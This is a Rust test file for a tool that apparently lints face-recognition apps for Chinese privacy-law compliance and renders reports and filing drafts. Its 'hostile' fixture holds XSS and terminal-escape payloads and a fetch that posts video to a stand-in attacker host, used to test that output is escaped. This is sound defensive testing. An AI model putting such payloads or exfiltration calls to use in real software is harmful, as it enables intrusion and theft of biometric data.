//! The report for people: what it says about whole apps, that nothing of a scanned project becomes markup in it, and
//! that it is the same each time.

#![allow(clippy::unwrap_used)]

mod support;

use std::path::{Path, PathBuf};

use facelint::input::source::SourceMap;
use facelint::report::page::{Attested, Form, Input, Kind, attested, render};
use facelint::report::{Subject, Tongue};
use facelint::{Outcome, analyse};
use support::Expectations;

/// A scenario of the corpus.
fn corpus(name: &str) -> Outcome {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
    let mut map = Expectations::load(&corpus.join(name), |_| true).map;
    // What holds for all scenarios lies above them.
    map.add_text("../facelint.toml", &std::fs::read_to_string(corpus.join("facelint.toml")).unwrap());
    analyse(map, false, support::today())
}

/// A scenario of the corpus with a configuration.
fn configured(name: &str, config: &str) -> Outcome {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus").join(name);
    let mut map = Expectations::load(&root, |_| true).map;
    map.add_text("facelint.toml", config);
    let outcome = analyse(map, false, support::today());
    assert!(outcome.notes.iter().all(|note| !note.detail.contains("facelint.toml")), "{:#?}", outcome.notes);
    outcome
}

/// An impact assessment that is kept elsewhere.
const ASSESSED: &str =
    "[pia]\ndocument_id = \"PIA-2025-<7>\"\ndate = \"2025-05-20\"\nkeep_years = 3\nrecords_path = \"DMS\"\n";

/// A project of files at hand.
fn project(files: &[(&str, &str)]) -> Outcome {
    let mut map = SourceMap::default();
    for (name, text) in files {
        map.add_text(name, text);
    }
    analyse(map, false, support::today())
}

/// What a page is asked for.
struct Ask<'a> {
    tongue: Tongue,
    kind: Kind,
    form: Form,
    name: &'a str,
    date: Option<&'a str>,
    attested: &'a [Attested],
}

const ASK: Ask<'_> = Ask {
    tongue: Tongue::En,
    kind: Kind::Report,
    form: Form::Markdown,
    name: "app",
    date: None,
    attested: &[],
};

fn page(outcome: &Outcome, ask: &Ask<'_>) -> String {
    let roots = [PathBuf::from(".")];
    let subject = Subject {
        map: &outcome.map,
        evidence: &outcome.evidence,
        findings: &outcome.findings,
        sites: &outcome.evidence.sites,
        notes: &outcome.notes,
        roots: &roots,
        tongue: ask.tongue,
    };
    let input = Input {
        subject: &subject,
        attested: ask.attested,
        suppressed: &outcome.suppressed,
        name: ask.name,
        date: ask.date,
        failed: outcome.failed,
        parsed: outcome.explored.files,
    };
    render(&input, ask.kind, ask.form)
}

/// The part of a Markdown page below a heading, up to the next of its depth.
fn part<'p>(page: &'p str, heading: &str) -> &'p str {
    let start = page.find(heading).unwrap_or_else(|| panic!("no {heading:?} in\n{page}"));
    let depth: String = heading.chars().take_while(|c| *c == '#').collect();
    let rest = &page[start + heading.len()..];
    let ends = (1..=depth.len()).filter_map(|depth| rest.find(&format!("\n{} ", "#".repeat(depth))));
    &rest[..ends.min().unwrap_or(rest.len())]
}

/// The state that stands behind the title of an article or duty.
fn state(page: &str, heading: &str) -> String {
    let line = part(page, heading).lines().next().unwrap();
    line.split("**")
        .nth(1)
        .unwrap_or_else(|| panic!("{line:?}"))
        .trim_start_matches(['✗', '!', '✓', ' '])
        .to_owned()
}

#[test]
fn an_article_stands_as_its_findings_and_gates_say() {
    let bad = page(&corpus("gym-members"), &ASK);
    assert_eq!(state(&bad, "### Measures Art. 5"), "violated");
    assert_eq!(state(&bad, "### Measures Art. 8"), "violated");
    assert_eq!(state(&bad, "### Measures Art. 14"), "violated");
    assert_eq!(state(&bad, "### Measures Art. 9"), "needs attestation");
    assert_eq!(state(&bad, "### Measures Art. 15"), "needs attestation");
    assert_eq!(state(&bad, "### Measures Art. 10"), "nothing found");
    // One half of an article is shown, the other is not.
    assert_eq!(state(&bad, "#### Separate consent"), "satisfied");
    assert_eq!(state(&bad, "#### Withdrawing consent"), "needs attestation");
    assert_eq!(state(&bad, "### Measures Art. 6"), "needs attestation");
    // The evidence of what is satisfied: the words that ask, and their place.
    assert!(part(&bad, "#### Separate consent").contains("人脸信息采集授权"));
    assert!(part(&bad, "#### Separate consent").contains("JoinActivity.java:"));
    assert!(part(&bad, "#### A guardian's consent for persons under 14").contains("from 16 on"));
    for rule in ["face-data-in-logs", "cloud-face-sdk", "incomplete-notice", "hardcoded-face-credential"] {
        assert!(bad.contains(&format!("Rule `{rule}`")), "{rule}");
    }
}

#[test]
fn a_repaired_app_violates_nothing_and_is_not_called_satisfied_for_what_code_cannot_show() {
    for name in ["gym-members-fixed", "school-gate-fixed", "bank-login-payment-fixed", "hospital-mini-fixed"]
    {
        let outcome = configured(name, ASSESSED);
        let fixed = page(&outcome, &Ask { attested: &attested(&outcome.evidence), ..ASK });
        assert!(!fixed.contains("✗ violated"), "{name}:\n{fixed}");
        assert_eq!(state(&fixed, "### Measures Art. 9"), "satisfied", "{name}");
        for heading in ["### Measures Art. 4", "### Measures Art. 12", "### Measures Art. 15"] {
            assert_eq!(state(&fixed, heading), "needs attestation", "{name}: {heading}");
        }
        assert_eq!(state(&fixed, "#### Separate consent"), "satisfied", "{name}");
    }
}

#[test]
fn an_app_without_faces_has_nothing_to_judge() {
    let plain = project(&[("Surface.kt", "class Surface(val typeface: String)\n")]);
    let text = page(&plain, &ASK);
    assert!(text.contains("No place that captures or recognises faces was found"));
    assert!(!text.contains("**✓") && !text.contains("**✗") && !text.contains("**! needs"), "{text}");
}

#[test]
fn every_finding_stands_once_under_its_article() {
    for name in ["gym-members", "hospital-mini", "attendance-kiosk", "face-search-axum", "school-gate"] {
        let outcome = corpus(name);
        let text = page(&outcome, &ASK);
        let told = text.matches("\n  Rule `").count();
        assert_eq!(told, outcome.findings.len(), "{name}");
    }
}

#[test]
fn flows_show_the_way_its_gates_and_where_faces_go() {
    let text = page(&corpus("gym-members"), &ASK);
    let flows = part(&text, "## Flows");
    let order = ["**Entry**", "**Age check**", "**Separate consent**", "**remote face API**", "**Vendor**"];
    let mut at = flows.find("### `FaceGroup`").unwrap();
    for word in order {
        let next = flows[at..].find(word).unwrap_or_else(|| panic!("{word} in order in\n{flows}"));
        at += next;
    }
    assert!(flows.contains("✗ **a database** `insert`, not encrypted, never erased"), "{flows}");
    let without = page(&project(&[("FaceLoginActivity.java", LOGIN)]), &ASK);
    assert!(part(&without, "## Flows").contains("**Missing** no consent is asked for on this way"));
}

const LOGIN: &str = "\
package com.example.bank;

import android.app.Activity;
import android.os.Bundle;
import com.tencent.cloud.huiyansdkface.facelight.api.WbCloudFaceVerifySdk;

public class FaceLoginActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WbCloudFaceVerifySdk.getInstance().startWbFaceVerifySdk(this, null);
    }
}
";

#[test]
fn attestations_answer_what_code_cannot_show() {
    let said = format!(
        "{ASSESSED}\n[transfer]\nmode = \"device_only\"\n\n[minors]\nserves_under_14 = \"no\"\n\n\
         [processor]\nname = \"青禾健身有限公司\"\n\n[filing]\nstored_persons = 1200\n"
    );
    let outcome = configured("gym-members", &said);
    let attested = attested(&outcome.evidence);
    let text = page(&outcome, &Ask { attested: &attested, ..ASK });
    assert_eq!(state(&text, "### Measures Art. 9"), "satisfied");
    let assessment = part(&text, "### Measures Art. 9");
    assert!(assessment.contains("Attested, not shown by code"), "{assessment}");
    assert!(assessment.contains("(PIA-2025-&lt;7&gt;) `facelint.toml:1`"), "{assessment}");
    assert_eq!(state(&text, "#### Special processing rules for persons under 14"), "satisfied");
    assert_eq!(state(&text, "### Measures Art. 15"), "satisfied");
    // What a finding contradicts is not attested away.
    assert_eq!(state(&text, "### Measures Art. 8"), "violated");
    let draft = page(&outcome, &Ask { kind: Kind::Filing, attested: &attested, ..ASK });
    assert!(draft.contains("| 个人信息处理者名称 | 青禾健身有限公司 |"), "{draft}");
    assert!(draft.contains("| 当前存储人脸信息的人数 | 1200 人 |"), "{draft}");
    assert!(draft.contains("PIA-2025-&lt;7&gt;"));
}

#[test]
fn what_is_attested_is_shown_with_its_place() {
    let said = "[project]\nnecessary_for_service = true\nnecessary_reasons = \"法定实名\"\n\
                [consent]\nevidence_store = \"server\"\n\
                [[alternative]]\nmethod = \"desk\"\noffline = true\n\
                [[alternative]]\nmethod = \"counter\"\noffline = true\nui_text_key = \"ask_at_the_desk\"\n\
                [pia]\ndocument_id = \"PIA-7\"\nrecords_path = \"records/2025\"\ntriggers = [\"新增接收方\"]\n\
                [filing]\nstored_persons = 5\nauthority = \"浙江省网信办\"\n\
                [[deployment]]\nplace_type = \"mall\"\npublic_safety_necessity = \"治安\"\ncapture_area = \"入口\"\n\
                signage = true\nsignage_photo = \"photos/mall.jpg\"\n\
                [security]\nmlps_level = 3\n\
                [[purpose]]\ndescription = \"入场\"\nnecessity = \"防冒用\"\nlegal_basis = \"contract\"\n\
                [[third_party]]\nname = \"Acme\"\nrole = \"joint\"\ncontract = \"C-1\"\n\
                [[retention]]\ndata = \"template\"\nperiod_days = 30\ntrigger = \"离职\"\nbasis = \"对账\"\n\
                [erasure]\ncovers = [\"template\", \"vendor\"]\nmax_days = 15\n";
    let outcome = configured("gym-members", said);
    let attested = attested(&outcome.evidence);
    let text = page(&outcome, &Ask { attested: &attested, ..ASK });
    for (heading, words) in [
        ("#### Separate consent", "consents are recorded on the server `facelint.toml:5`"),
        (
            "### Measures Art. 12",
            "the service cannot be given without the face (PIPL Art. 16): 法定实名 `facelint.toml:2`",
        ),
        ("### Measures Art. 10", "desk, outside the software, and no text of the app is named"),
        ("### Measures Art. 10", "counter, outside the software, told by the text `ask_at_the_desk`"),
        ("### Measures Art. 9", "the processing is recorded in records/2025"),
        ("### Measures Art. 9", "assessed again upon: 新增接收方"),
        ("### Measures Art. 15", "authority: 浙江省网信办"),
        ("### Measures Art. 13", "with signs (picture: photos/mall.jpg)"),
        (
            "#### Security audit, intrusion detection and defence",
            "level 3 of the multi-level protection scheme",
        ),
        ("### Measures Art. 4", "入场; necessary because: 防冒用; based on a contract"),
        ("### Measures Art. 8", "Acme receives face information as a joint processor, contract C-1"),
        ("#### Kept no longer than necessary", "template: 30 days from 离职; because: 对账"),
        ("#### Kept no longer than necessary", "these are erased: template, vendor, within 15 days"),
    ] {
        let plain = part(&text, heading).replace('\\', "");
        assert!(plain.contains(words), "{heading}: {words}\n{plain}");
    }
    // What only adds to what is known answers nothing.
    assert_eq!(state(&text, "### Measures Art. 12"), "needs attestation");
    assert_eq!(state(&text, "#### Security audit, intrusion detection and defence"), "needs attestation");
    let pia = page(&outcome, &Ask { kind: Kind::Assessment, attested: &attested, ..ASK });
    assert!(pia.contains("| 处理情况记录的存放位置 | records/2025 |"), "{pia}");
    assert!(pia.contains("| 重新评估的情形 | 新增接收方 |"), "{pia}");
    let filing = page(&outcome, &Ask { kind: Kind::Filing, attested: &attested, ..ASK });
    assert!(filing.contains("| 备案机关 | 浙江省网信办 |"), "{filing}");
    assert!(filing.contains("第三级"), "{filing}");
}

/// A period is one from when to when; a legal basis one with its provision.
#[test]
fn what_is_said_by_half_stays_a_gap() {
    let kept = |said: &str| {
        let outcome = configured("gym-members", &format!("[[retention]]\ndata = \"template\"\n{said}"));
        attested(&outcome.evidence).iter().any(|one| one.duty == "retention")
    };
    assert!(kept("period_days = 0\ntrigger = \"verification_done\"\n"));
    assert!(!kept("period_days = 30\n") && !kept("trigger = \"离职\"\n") && !kept(""));
    for kind in [Kind::Assessment, Kind::Filing] {
        let draft = |said: &str| {
            let outcome = configured("gym-members", said);
            page(&outcome, &Ask { kind, attested: &attested(&outcome.evidence), ..ASK })
        };
        let whole = draft(
            "[project]\nlegal_basis = \"statutory_duty\"\nlegal_basis_citation = \"反恐怖主义法第二十一条\"\n\
             [filing]\nstored_persons = 5\n",
        );
        let basis = "| 合法性基础 | 履行法定职责或者法定义务所必需（反恐怖主义法第二十一条） |";
        assert!(whole.contains(basis), "{whole}");
        assert!(whole.contains("当前存储人脸信息的人数 | 5 人"), "{whole}");
        let half = draft("[project]\nlegal_basis = \"statutory_duty\"\n");
        assert!(half.contains("| 合法性基础 | **【待填") || half.contains("| 合法性基础 | 【待填"), "{half}");
    }
}

#[test]
fn an_offline_way_is_an_answer_where_a_text_tells_of_it() {
    let of = |more: &str| {
        let said = format!("[[alternative]]\nmethod = \"desk\"\noffline = true\n{more}");
        let outcome = configured("gym-members", &said);
        let attested = attested(&outcome.evidence);
        attested.iter().any(|one| one.duty == "choice" && one.whole)
    };
    assert!(of("ui_text_key = \"ask_at_the_desk\"\n"));
    assert!(!of(""));
}

#[test]
fn what_the_law_does_not_apply_to_is_shown_with_the_provision() {
    let plain = configured("gym-members", "");
    let outcome = configured("gym-members", "[project]\nregion = \"other\"\n");
    assert_eq!(outcome.findings, []);
    assert_eq!(outcome.suppressed.len(), plain.findings.len());
    let text = page(&outcome, &ASK);
    let exempt = part(&text, "## Not applicable, by attestation").replace('\\', "");
    assert!(exempt.contains("used outside mainland China (Measures Art. 2) `facelint.toml:2`"), "{exempt}");
    for finding in &plain.findings {
        assert!(exempt.contains(&format!("`{}` ", finding.rule)), "{}", finding.rule);
    }
    let zh = page(&outcome, &Ask { tongue: Tongue::Zh, ..ASK });
    assert!(zh.contains("## 依声明不适用的内容") && zh.contains("（《办法》第二条）"), "{zh}");
    assert!(!page(&plain, &ASK).contains("Not applicable"));
    let home = configured("gym-members", "[exemptions]\nhousehold = true\n");
    assert_eq!(home.findings, []);
    assert!(page(&home, &ASK).contains("household affairs (PIPL Art. 72)"));
}

#[test]
fn the_assessment_has_the_four_items_and_marks_every_gap() {
    let outcome = corpus("gym-members");
    let draft = page(&outcome, &Ask { kind: Kind::Assessment, ..ASK });
    let mut at = 0;
    for item in [
        "（一）人脸信息的处理目的、处理方式是否合法、正当、必要",
        "（二）对个人权益的影响，以及降低不利影响的措施是否有效",
        "（三）泄露、篡改、丢失、毁损或者被非法获取、出售、使用的风险，以及可能造成的危害",
        "（四）所采取的保护措施是否合法、有效并与风险程度相适应",
    ] {
        at += draft[at..].find(item).unwrap_or_else(|| panic!("{item}"));
        assert!(part(&draft, &format!("### {item}")).contains("【待填】评估结论"), "{item}");
    }
    // Facts of the code with their place; what it cannot know is a gap.
    assert!(draft.contains("Baidu") && draft.contains("FaceGroup.java:34") && draft.contains("未加密"));
    for gap in ["全称，与营业执照一致", "年月日", "姓名、部门、职务"] {
        assert!(draft.contains(&format!("【待填】{gap}")), "{gap}");
    }
    let dated = page(&outcome, &Ask { kind: Kind::Assessment, date: Some("2025-06-30"), ..ASK });
    assert!(dated.contains("| 评估日期 | 2025-06-30 |"));
    assert!(!draft.contains("2025-06-30"));
}

#[test]
fn the_filing_has_its_five_parts_and_invents_no_number() {
    let draft = page(&corpus("attendance-kiosk"), &Ask { kind: Kind::Filing, ..ASK });
    for part in [
        "个人信息处理者的基本情况",
        "人脸信息处理目的和处理方式",
        "存储数量和安全保护措施",
        "处理规则和操作规程",
        "个人信息保护影响评估报告",
    ] {
        assert!(draft.contains(part), "{part}");
    }
    assert!(draft.contains("| 当前存储人脸信息的人数 | **【待填】去重后的人数及统计时间** |"));
    assert!(draft.contains("承诺书"));
    // The draft is Chinese whatever language the rest is in.
    let zh = page(&corpus("attendance-kiosk"), &Ask { kind: Kind::Filing, tongue: Tongue::Zh, ..ASK });
    assert_eq!(draft, zh);
}

/// Names and texts that would do something in HTML, Markdown or a terminal.
const HOSTILE: &str =
    "<img src=x onerror=alert(1)>](javascript:alert(2))`|@all\u{202e}\u{1b}[31m\u{9b}2J&lt;";

fn hostile() -> Outcome {
    let code = format!(
        "import {{ FaceDetector }} from \"@mediapipe/tasks-vision\";\n\
         export async function scan(video) {{\n\
           if (!window.confirm(\"是否同意采集您的人脸信息？{HOSTILE}\")) return;\n\
           const detector = await FaceDetector.createFromOptions(null, {{}});\n\
           const found = detector.detect(video);\n\
           await fetch(\"http://evil.example/<script>alert(3)</script>/face?{HOSTILE}\", {{ method: \"POST\", body: video }});\n\
           localStorage.setItem(\"faceConsent<script>alert(4)</script>\", \"1\");\n\
           return found;\n\
         }}\n"
    );
    project(&[
        (&format!("src/{HOSTILE}/<script>alert(5)<!-- .js").replace("](", "") as &str, &code),
        ("FaceLoginActivity.java", &LOGIN.replace("FaceLoginActivity", "Face$Login_Activity")),
    ])
}

#[test]
fn nothing_of_a_project_becomes_markup() {
    let outcome = hostile();
    assert!(outcome.findings.len() > 3, "{:#?}", outcome.findings);
    for kind in [Kind::Report, Kind::Assessment, Kind::Filing] {
        for tongue in [Tongue::En, Tongue::Zh] {
            let ask = Ask { kind, tongue, name: HOSTILE, ..ASK };
            let html = page(&outcome, &Ask { form: Form::Html, ..ask });
            for bad in ["<script", "<img", "onerror=alert(1)>", "<!--", "\u{202e}", "\u{1b}", "\u{9b}"] {
                assert!(!html.contains(bad), "{bad:?} in {kind:?}");
            }
            assert!(html.contains("&lt;img src=x onerror"), "{kind:?}");
            balanced(&html);
            let text = page(&outcome, &Ask { form: Form::Markdown, ..ask });
            for bad in ["\u{202e}", "\u{1b}", "\u{9b}", "@all"] {
                assert!(!outside_code(&text).contains(bad), "{bad:?} in {kind:?}");
            }
            // An escaped bracket is no bracket.
            let marks = outside_code(&text).replace("\\]", "").replace("\\[", "");
            for bad in ["<script", "<img", "](javascript"] {
                let line = marks.lines().find(|line| line.contains(bad));
                assert_eq!(line, None, "{bad:?} in {kind:?}");
            }
        }
    }
}

/// Markdown without its code spans.
fn outside_code(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let mut rest = line;
        while let Some(start) = rest.find('`') {
            let escaped = rest[..start].ends_with('\\');
            out.push_str(&rest[..start]);
            let fence: String = rest[start..].chars().take_while(|c| *c == '`').collect();
            let after = &rest[start + fence.len()..];
            let end = if escaped { None } else { closing(after, fence.len()) };
            rest = end.map_or(after, |end| &after[end..]);
        }
        out.push_str(rest);
        out.push('\n');
    }
    out
}

/// The end of the run of exactly so many backticks.
fn closing(text: &str, len: usize) -> Option<usize> {
    let mut at = 0;
    while let Some(start) = text[at..].find('`') {
        let run = text[at + start..].chars().take_while(|c| *c == '`').count();
        at += start + run;
        if run == len {
            return Some(at);
        }
    }
    None
}

/// Every element that is opened is closed, in order.
fn balanced(html: &str) {
    const EMPTY: &[&str] = &["meta", "link", "wbr", "path", "circle"];
    let style = html.find("</style>").unwrap();
    let mut open: Vec<&str> = vec!["html", "body"];
    let body = &html[style + html[style..].find("<body>").unwrap() + 6..];
    for part in body.split('<').skip(1) {
        let tag = part.split('>').next().unwrap();
        let name = tag.split([' ', '/']).find(|name| !name.is_empty()).unwrap_or_default();
        if EMPTY.contains(&name) || tag.ends_with('/') {
            continue;
        }
        if tag.starts_with('/') {
            assert_eq!(open.pop(), Some(name), "{tag}");
        } else {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{open:?}");
}

#[test]
fn a_page_is_the_same_each_time_and_loads_nothing() {
    for name in ["gym-members", "hospital-mini", "face-search-express"] {
        for kind in [Kind::Report, Kind::Assessment, Kind::Filing] {
            for form in [Form::Html, Form::Markdown] {
                let ask = Ask { kind, form, ..ASK };
                assert_eq!(page(&corpus(name), &ask), page(&corpus(name), &ask), "{name} {kind:?}");
            }
        }
        let html = page(&corpus(name), &Ask { form: Form::Html, ..ASK });
        balanced(&html);
        for load in ["<script", " src=", "@import", "url(", "<iframe", "<object", "<form", "@font-face"] {
            assert!(!html.contains(load), "{load}");
        }
        assert!(html.contains("default-src 'none'"));
    }
}

#[test]
fn secrets_of_a_vendor_are_not_printed() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/gym-members");
    let outcome = corpus("gym-members");
    assert!(!outcome.evidence.credentials.is_empty());
    let source =
        std::fs::read_to_string(root.join("app/src/main/java/com/example/gym/face/FaceGroup.java")).unwrap();
    let secrets: Vec<&str> = source
        .lines()
        .filter(|line| line.contains("API_KEY =") || line.contains("SECRET_KEY ="))
        .map(|line| line.split('"').nth(1).unwrap())
        .collect();
    assert_eq!(secrets.len(), 2);
    for form in [Form::Html, Form::Markdown] {
        let text = page(&outcome, &Ask { form, ..ASK });
        assert!(text.contains("hardcoded-face-credential"));
        for secret in &secrets {
            assert!(!text.contains(secret), "{secret}");
        }
    }
}

#[test]
fn a_failed_analysis_is_said_first() {
    let mut outcome = corpus("gym-members-fixed");
    outcome.failed = true;
    let text = page(&outcome, &ASK);
    assert!(part(&text, "## Summary").contains("The analysis failed"));
    assert_ne!(state(&text, "#### Separate consent"), "satisfied");
}
